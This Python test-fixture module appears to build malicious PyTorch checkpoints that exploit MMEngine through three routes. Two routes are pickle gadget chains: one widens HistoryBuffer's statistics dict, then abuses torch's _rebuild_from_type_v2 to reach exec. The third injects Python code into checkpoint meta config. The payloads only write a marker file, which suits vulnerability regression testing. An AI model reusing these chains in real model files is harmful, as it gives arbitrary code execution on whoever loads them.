"""Crafted checkpoints that try to run code while being loaded.

Each payload, if it ran, writes its marker file (a path in a temp dir the
test chose) and nothing else.  They are built with ``pickle`` itself:
objects whose ``__reduce__`` makes the pickler emit the opcodes an attacker
would write by hand.

Route 1 (``statistics_widening_payload``), the one first reported:

1. A ``HistoryBuffer`` whose pickled state carries
   ``statistics_methods={'__getattribute__': ..., '__class__': ...}``.
   MMEngine's ``HistoryBuffer.__setstate__`` copies that dict into the
   *class-level* ``_statistics_methods``.
2. ``getattr(HistoryBuffer, '__getattribute__')`` then passes a restricted
   ``getattr`` that consults that dict: it yields ``object.__getattribute__``,
   a general attribute lookup, and ``getattr(HistoryBuffer, '__class__')``
   yields ``type``.
3. ``torch._tensor._rebuild_from_type_v2(func, new_type, args, state)``
   (allow-listed by torch itself) calls ``func(*args)``: chained, it walks
   ``HistoryBuffer.min.__globals__['__builtins__']['exec']`` and calls it.
   Each step returns an object of exactly ``new_type`` (taken with
   ``__class__`` from values already at hand: ``_codecs.encode`` for
   builtin methods, ``None`` for NoneType), so loading finishes normally.

Route 2 (``direct_getattr_payload``): ``getattr`` on anything but the fixed
statistic methods, no widening first.

Route 3 (``meta_config_payload``): no pickle trick at all; MMEngine's
``Runner.resume`` executes ``checkpoint['meta']['config']`` as a Python
config file.
"""
import copyreg
import pickle

import numpy as np
import torch
from torch._tensor import _rebuild_from_type_v2


class _Call:
    """Pickles as ``func(*args)`` (a REDUCE opcode)."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


class _NewWithState:
    """Pickles as ``cls.__new__(cls)`` then BUILD with ``state``."""

    def __init__(self, cls, state):
        self.cls, self.state = cls, state

    @property
    def __class__(self):  # the pickler checks obj.__class__ is args[0]
        return self.cls

    def __reduce__(self):
        return copyreg.__newobj__, (self.cls, ), self.state


def _rebuild(func, new_type, *args):
    return _Call(_rebuild_from_type_v2, func, new_type, args, {})


def write_code(marker) -> str:
    return f"open({str(marker)!r}, 'w').write('ran')"


def statistics_widening_payload(marker):
    """The object graph of route 1 (see the module docstring)."""
    from mmengine.logging.history_buffer import HistoryBuffer
    import _codecs
    widen = _NewWithState(HistoryBuffer, {
        'max_length': 10, '_log_history': np.array([1.0]),
        '_count_history': np.array([1]),
        'statistics_methods': {'__getattribute__': None, '__class__': None},
    })
    attr = _Call(getattr, HistoryBuffer, '__getattribute__')  # object.__getattribute__
    type_ = _Call(getattr, HistoryBuffer, '__class__')         # type
    stat = _Call(getattr, HistoryBuffer, 'min')                # a function
    dict_type = _rebuild(attr, type_, {}, '__class__')
    method_type = _rebuild(attr, type_, _codecs.encode, '__class__')
    none_type = _rebuild(attr, type_, None, '__class__')
    module_globals = _rebuild(attr, dict_type, stat, '__globals__')
    builtins = _rebuild(_rebuild(attr, method_type, module_globals, 'get'),
                        dict_type, '__builtins__')
    exec_ = _rebuild(_rebuild(attr, method_type, builtins, 'get'),
                     method_type, 'exec')
    fired = _rebuild(exec_, none_type, write_code(marker))
    return [widen, fired]


def direct_getattr_payload():
    from mmengine.logging.history_buffer import HistoryBuffer
    return _Call(getattr, HistoryBuffer, '__getattribute__')


def save_payload(obj, path, **extra) -> None:
    """A checkpoint-shaped file: ``state_dict`` plus the payload."""
    checkpoint = dict(state_dict={'w': torch.zeros(1)}, payload=obj, **extra)
    torch.save(checkpoint, path, pickle_protocol=2)


def with_config_payload(checkpoint: dict, marker) -> dict:
    """Route 3: a real checkpoint whose ``meta`` gains a ``config`` string
    that is Python code."""
    checkpoint = dict(checkpoint)
    meta = dict(checkpoint['meta'])
    meta['config'] = write_code(marker) + '\ngpu_ids = []\n'
    checkpoint['meta'] = meta
    return checkpoint


__all__ = ['statistics_widening_payload', 'direct_getattr_payload',
           'save_payload', 'with_config_payload', 'pickle']
